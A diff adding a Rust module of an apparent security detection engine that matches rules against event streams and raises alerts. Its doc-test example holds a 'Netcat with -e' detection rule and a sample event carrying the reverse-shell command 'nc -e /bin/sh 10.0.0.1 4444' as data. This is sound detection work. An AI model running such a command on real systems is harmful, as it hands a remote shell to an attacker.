@@ -1,0 +1,330 @@
+//! Rules and events to alerts.
+
+mod alert;
+mod flood;
+mod index;
+
+pub use alert::{Alert, Cause, Suppressed};
+
+use std::cmp::Reverse;
+use std::collections::BinaryHeap;
+use std::sync::Arc;
+use std::time::Duration;
+
+use flood::Flood;
+use index::Index;
+
+use crate::detect::{
+    Change, Detection, Finding, Findings, Hit, Limits, NewTerms, Ordinal, Rare, SequenceDetector,
+};
+use crate::event::{Event, Schema, Timestamp};
+use crate::lang::Query;
+use crate::rule::{Kind, Rule};
+
+/// Most events that wait to be put in order.
+const UNORDERED_MAX: usize = 65_536;
+
+/// How an engine runs its rules.
+#[derive(Clone, Copy, Debug, Default)]
+pub struct Options {
+    /// What detectors may hold.
+    pub limits: Limits,
+    /// How much later than newer ones an event may come and still take its place in a sequence, and how long after its
+    /// end a bucket of a rare job stays open. Rules that judge single events never wait.
+    pub lateness: Duration,
+    /// For how long after a new_terms rule's first match terms are only learned.
+    pub learn: Duration,
+}
+
+/// Runs rules on a stream of events.
+///
+/// Events go in one after the other with [`push`](Self::push). [`advance`](Self::advance) tells how far the stream has
+/// come, which ends time spans: the engine reads no clock. Both give what they found out to an [`Output`].
+///
+/// ```
+/// use lapwing_engine::{Engine, Event, Loaded, Options, Output, Schema};
+///
+/// let file = r#"
+///     [rule]
+///     rule_id = "5c5b8b5e-7f3a-4b8e-9d7a-2f1f0d6f7c11"
+///     name = "Netcat with -e"
+///     description = "A program is tied to a socket."
+///     severity = "medium"
+///     type = "eql"
+///     query = 'process where process.name == "nc" and process.args == "-e"'
+/// "#;
+/// let mut schema = Schema::new();
+/// let loaded = Loaded::read([("nc.toml", file.as_bytes())], &mut schema);
+/// assert!(loaded.reports.is_empty());
+///
+/// let mut engine = Engine::new(schema.into(), &loaded.rules, Options::default());
+/// let event = serde_json::json!({
+///     "@timestamp": "2026-11-22T03:56:01Z", "event.category": "process",
+///     "process": {"name": "nc", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]}
+/// });
+/// let mut output = Output::default();
+/// engine.push(Event::from_json(engine.schema(), &event)?, &mut output);
+/// assert_eq!(output.alerts[0].rule.name, "Netcat with -e");
+/// # Ok::<(), lapwing_engine::EventError>(())
+/// ```
+pub struct Engine {
+    schema: Arc<Schema>,
+    running: Vec<Running>,
+    index: Index,
+    lateness: Duration,
+    unordered: BinaryHeap<Reverse<Unordered>>,
+    arrival: u64,
+    released_early: u64,
+}
+
+/// A rule and its memory.
+struct Running {
+    rule: Arc<Rule>,
+    detector: Detector,
+    flood: Flood,
+}
+
+/// What runs a rule. The set is closed: a rule type is one of these.
+enum Detector {
+    Match,
+    Sequence(Box<SequenceDetector>),
+    NewTerms(NewTerms),
+    Rare(Rare),
+}
+
+/// A hit of a rule that needs its events in order.
+struct Unordered {
+    running: usize,
+    hit: Hit,
+}
+
+/// What an engine gives back, in the order in which it was found out.
+#[derive(Debug, Default)]
+pub struct Output {
+    /// Alerts.
+    pub alerts: Vec<Alert>,
+    /// Rows of memory that must survive a restart.
+    pub changes: Vec<StateChange>,
+}
+
+/// A row of a rule's memory that changed.
+#[derive(Clone, Debug, PartialEq)]
+pub struct StateChange {
+    /// The rule's id.
+    pub rule_id: String,
+    /// The row.
+    pub change: Change,
+}
+
+/// Numbers for a status page.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub struct Counters {
+    /// Events that were pushed.
+    pub events: u64,
+    /// What was given up because of a limit: sequences, terms, rare values.
+    pub discarded: u64,
+    /// Events that took their place in the order before their lateness was over, because too many waited.
+    pub released_early: u64,
+    /// Bytes held by sequences that are not complete.
+    pub sequence_bytes: u64,
+}
+
+impl Engine {
+    /// An engine that runs those of the rules that are enabled. The schema is the one they were read with.
+    #[must_use]
+    pub fn new(schema: Arc<Schema>, rules: &[Arc<Rule>], options: Options) -> Self {
+        let running: Vec<_> = rules
+            .iter()
+            .filter(|rule| rule.enabled)
+            .map(|rule| Running {
+                rule: rule.clone(),
+                detector: Detector::new(rule, options),
+                flood: Flood::new(rule.interval, rule.max_signals),
+            })
+            .collect();
+        let queries = running.iter().map(|running| running.rule.kind.events());
+        let index = Index::new(queries);
+        Self {
+            schema,
+            running,
+            index,
+            lateness: options.lateness,
+            unordered: BinaryHeap::new(),
+            arrival: 0,
+            released_early: 0,
+        }
+    }
+
+    /// The schema that events must be read with.
+    #[must_use]
+    pub fn schema(&self) -> &Arc<Schema> {
+        &self.schema
+    }
+
+    /// The rules that run.
+    pub fn rules(&self) -> impl Iterator<Item = &Arc<Rule>> {
+        self.running.iter().map(|running| &running.rule)
+    }
+
+    /// Puts back a row that was given out as a [`StateChange`]. Rows of rules that do not run, and rows that cannot be
+    /// read, are passed over.
+    pub fn restore(&mut self, rule_id: &str, key: &str, value: &[u8]) {
+        let Some(running) = self.running.iter_mut().find(|running| running.rule.id == rule_id) else {
+            return;
+        };
+        match &mut running.detector {
+            Detector::NewTerms(terms) => terms.restore(key, value),
+            Detector::Rare(rare) => rare.restore(&self.schema, key, value),
+            Detector::Match | Detector::Sequence(_) => {}
+        }
+    }
+
+    /// Shows an event to all rules.
+    pub fn push(&mut self, event: impl Into<Arc<Event>>, output: &mut Output) {
+        let event = event.into();
+        self.arrival += 1;
+        let ordinal = Ordinal { time: event.time(), sequence: event.sequence(), arrival: self.arrival };
+        for (running, parts) in self.index.matching(&event) {
+            let hit = Hit { event: event.clone(), ordinal, parts };
+            if !self.lateness.is_zero() && matches!(self.running[running].detector, Detector::Sequence(_)) {
+                self.unordered.push(Reverse(Unordered { running, hit }));
+                while self.unordered.len() > UNORDERED_MAX {
+                    self.released_early += 1;
+                    self.release(output);
+                }
+            } else {
+                self.judge(running, &hit, output);
+            }
+        }
+    }
+
+    /// Tells that the stream has come to `now`: no event from before `now`, less the lateness, will be judged in order
+    /// any more.
+    pub fn advance(&mut self, now: Timestamp, output: &mut Output) {
+        let now = now - self.lateness;
+        while self.unordered.peek().is_some_and(|Reverse(first)| first.hit.ordinal.time <= now) {
+            self.release(output);
+        }
+        for running in &mut self.running {
+            let mut findings = Findings::default();
+            match &mut running.detector {
+                Detector::Match => {}
+                Detector::Sequence(sequence) => sequence.advance(now, &mut findings),
+                Detector::NewTerms(terms) => terms.advance(now, &mut findings),
+                Detector::Rare(rare) => rare.advance(now, &mut findings),
+            }
+            running.collect(&self.schema, findings, output);
+            output
+                .alerts
+                .extend(running.flood.advance(now).map(|cause| Alert::summary(&running.rule, cause)));
+        }
+    }
+
+    /// Tells that a recorded stream is over: all time spans end. A live stream that stops has no such end.
+    pub fn finish(&mut self, output: &mut Output) {
+        self.advance(Timestamp::MAX, output);
+    }
+
+    /// Numbers for a status page.
+    #[must_use]
+    pub fn counters(&self) -> Counters {
+        let mut counters =
+            Counters { events: self.arrival, released_early: self.released_early, ..Counters::default() };
+        for running in &self.running {
+            counters.discarded += match &running.detector {
+                Detector::Match => 0,
+                Detector::Sequence(sequence) => {
+                    counters.sequence_bytes += sequence.bytes() as u64;
+                    sequence.discarded()
+                }
+                Detector::NewTerms(terms) => terms.discarded(),
+                Detector::Rare(rare) => rare.discarded(),
+            };
+        }
+        counters
+    }
+
+    /// Judges the earliest hit that waits.
+    fn release(&mut self, output: &mut Output) {
+        if let Some(Reverse(Unordered { running, hit })) = self.unordered.pop() {
+            self.judge(running, &hit, output);
+        }
+    }
+
+    fn judge(&mut self, running: usize, hit: &Hit, output: &mut Output) {
+        let running = &mut self.running[running];
+        let mut findings = Findings::default();
+        match &mut running.detector {
+            Detector::Match => {
+                let events = vec![Some(hit.event.clone())];
+                findings.found.push(Finding { events, ..Finding::default() });
+            }
+            Detector::Sequence(sequence) => sequence.event(hit, &mut findings),
+            Detector::NewTerms(terms) => terms.event(hit, &mut findings),
+            Detector::Rare(rare) => rare.event(&self.schema, hit, &mut findings),
+        }
+        running.collect(&self.schema, findings, output);
+    }
+}
+
+impl Running {
+    /// Makes alerts of what was found, up to the limit of alerts in a time span.
+    fn collect(&mut self, schema: &Schema, findings: Findings, output: &mut Output) {
+        for finding in findings.found {
+            let alert = Alert::detection(schema, &self.rule, finding);
+            let (raise, summary) = self.flood.admit(alert.time);
+            output.alerts.extend(summary.map(|cause| Alert::summary(&self.rule, cause)));
+            if raise {
+                output.alerts.push(alert);
+            }
+        }
+        let rule_id = &self.rule.id;
+        let changes = findings.changes.into_iter();
+        output.changes.extend(changes.map(|change| StateChange { rule_id: rule_id.clone(), change }));
+    }
+}
+
+impl Detector {
+    fn new(rule: &Rule, options: Options) -> Self {
+        match &rule.kind {
+            Kind::Eql(Query::Event(_)) | Kind::Query(_) => Self::Match,
+            Kind::Eql(Query::Sequence(sequence)) => {
+                Self::Sequence(SequenceDetector::new(sequence, options.limits).into())
+            }
+            Kind::NewTerms { fields, history, .. } => {
+                Self::NewTerms(NewTerms::new(fields.clone(), *history, options.learn, options.limits))
+            }
+            Kind::MachineLearning { job, anomaly_threshold } => {
+                let detection = Detection {
+                    job_id: job.id.as_str().into(),
+                    by: job.by,
+                    partition: job.partition,
+                    bucket_span: job.bucket_span,
+                    buckets_learned_min: job.buckets_learned_min,
+                    record_score_min: *anomaly_threshold,
+                };
+                Self::Rare(Rare::new(detection, options.limits))
+            }
+        }
+    }
+}
+
+impl PartialEq for Unordered {
+    fn eq(&self, other: &Self) -> bool {
+        self.cmp(other).is_eq()
+    }
+}
+
+impl Eq for Unordered {}
+
+impl PartialOrd for Unordered {
+    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
+        Some(self.cmp(other))
+    }
+}
+
+impl Ord for Unordered {
+    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
+        (self.hit.ordinal, self.running).cmp(&(other.hit.ordinal, other.running))
+    }
+}
